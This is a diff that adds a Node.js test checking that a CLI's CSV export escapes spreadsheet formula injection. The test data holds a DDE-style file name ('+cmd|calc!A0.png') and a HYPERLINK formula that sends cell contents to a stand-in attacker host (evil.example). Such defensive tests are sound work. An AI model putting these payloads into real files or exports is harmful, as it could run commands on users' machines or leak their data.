@@ -8,7 +8,7 @@ import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { execFileSync, spawn } from 'node:child_process';
 import { closeSync, openSync } from 'node:fs';
-import { lstat, mkdir, readFile, readdir, writeFile } from 'node:fs/promises';
+import { lstat, mkdir, readFile, readdir, rename, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { repoRoot, skipWithoutReference } from './helpers/paths.js';
 import { tinyModel } from './helpers/tiny-model.js';
@@ -112,5 +112,21 @@ test('the job summary is appended, also to a FIFO, never renamed over', SPAWNING
     assert.match((await reader.done).stdout, /\| model \|/, 'the summary went through the FIFO');
     assert.ok((await lstat(fifo)).isFIFO(), 'the FIFO is still a FIFO');
     assert.deepEqual((await readdir(dir)).filter((f) => f.endsWith('.tmp')), []);
+  });
+});
+
+test('rank CSV: a file name and a prompt that a spreadsheet would run come out as text', SPAWNING, async () => {
+  const model = await tinyModel();
+  await withTempDir('outputs', async (dir) => {
+    const [name] = await writeGradientPngs(dir, 1);
+    const hostileName = '+cmd|calc!A0.png';
+    await rename(path.join(dir, name), path.join(dir, hostileName));
+    const prompt = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const result = await runCli(['rank', hostileName, '--prompt', prompt, ...scorerFlags(model), '--format', 'csv'], { cwd: dir });
+    assert.equal(result.code, 0, result.stderr);
+    const [header, row] = result.stdout.trim().split('\n');
+    assert.equal(header, 'path,prompt,score,prob,rank,width,height,error');
+    assert.ok(row.startsWith(`'+cmd|calc!A0.png,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`), row);
+    assert.match(row, /,1,1,32,32,$/, 'numbers are written as numbers');
   });
 });
